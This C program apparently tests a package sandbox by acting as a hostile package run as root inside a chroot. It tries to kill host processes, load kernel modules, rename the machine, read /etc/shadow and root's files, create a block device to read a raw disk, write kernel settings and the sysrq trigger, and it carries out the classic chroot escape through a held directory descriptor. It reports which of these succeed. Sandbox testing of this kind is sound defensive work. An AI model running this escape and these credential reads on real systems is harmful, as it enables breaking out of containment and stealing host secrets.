/* What a package of a stranger does when it is installed: everything by which a chrooted root reaches the host.
   usage: attack VICTIM PORT PID DISK (MAJOR:MINOR); each line that it writes is something that worked. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int chmod_of_device(const char *path) { return chmod(path, 0666); }

static int opens(const char *path, int flags) {
  int file = open(path, flags | O_CLOEXEC, 0600);
  if (file < 0) return 0;
  char byte;
  int works = (flags & O_ACCMODE) == O_RDONLY ? read(file, &byte, 1) == 1 : write(file, "x", 1) == 1;
  close(file);
  return works;
}

static void look(const char *where, const char *victim, int major_number, int minor_number) {
  char path[PATH_MAX];
  snprintf(path, sizeof path, "%s/secret", victim);
  if (opens(path, O_RDONLY)) printf("%s: read the secret\n", where);
  snprintf(path, sizeof path, "%s/planted", victim);
  if (opens(path, O_WRONLY | O_CREAT)) printf("%s: wrote beside it\n", where);
  const char *foreign[] = {"/etc/shadow", "/root/.bashrc", "/root/.profile", "/etc/ssh/sshd_config", "/var/log/dpkg.log"};
  /* Of the tree itself, where it is the root. */
  if (strcmp(where, "inside") != 0)
    for (size_t i = 0; i < sizeof foreign / sizeof *foreign; i++)
      if (opens(foreign[i], O_RDONLY)) printf("%s: read %s\n", where, foreign[i]);
  if (strcmp(where, "inside") != 0 && opens("/usr/planted", O_WRONLY | O_CREAT)) printf("%s: wrote into /usr\n", where);
  if (mknod("/disk", S_IFBLK | 0600, makedev(major_number, minor_number)) == 0) {
    if (opens("/disk", O_RDONLY)) printf("%s: read a disk\n", where);
    unlink("/disk");
  }
  if (mount("none", "/tmp", "tmpfs", 0, "") == 0) printf("%s: mounted\n", where);
  if (opens("/proc/sys/kernel/core_pattern", O_WRONLY)) printf("%s: wrote a setting of the kernel\n", where);
  if (opens("/proc/sysrq-trigger", O_WRONLY)) printf("%s: pressed a key\n", where);
}

static int refused(void) { return errno == EPERM || errno == ENOSYS || errno == EACCES; }

int main(int count, char **arguments) {
  if (count != 5) return 2;
  const char *victim = arguments[1];
  int port = atoi(arguments[2]), major_number = 0, minor_number = 0;
  pid_t pid = atoi(arguments[3]);
  sscanf(arguments[4], "%d:%d", &major_number, &minor_number);
  setvbuf(stdout, NULL, _IONBF, 0);

  if (kill(pid, SIGKILL) == 0) printf("killed a process\n");
  if (syscall(SYS_init_module, "", 0UL, "") == 0 || !refused()) printf("may load modules\n");
  if (syscall(SYS_sethostname, "taken", 5UL) == 0) printf("renamed the machine\n");
  if (chmod_of_device("/dev/null") == 0) chmod("/dev/null", 0600);
  int tcp = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr = {htonl(INADDR_LOOPBACK)}};
  if (connect(tcp, (struct sockaddr *)&to, sizeof to) == 0) printf("connected to the host\n");

  look("inside", victim, major_number, minor_number);
  /* Out of the chroot: another one below it, while a descriptor still leads above. */
  int above = open("/", O_RDONLY | O_DIRECTORY);
  mkdir("/below", 0700);
  if (above >= 0 && chroot("/below") == 0 && fchdir(above) == 0) {
    for (int i = 0; i < 64; i++)
      if (chdir("..") != 0) break;
    if (chroot(".") == 0) look("outside", victim, major_number, minor_number);
  }
  printf("done\n");
  return 0;
}
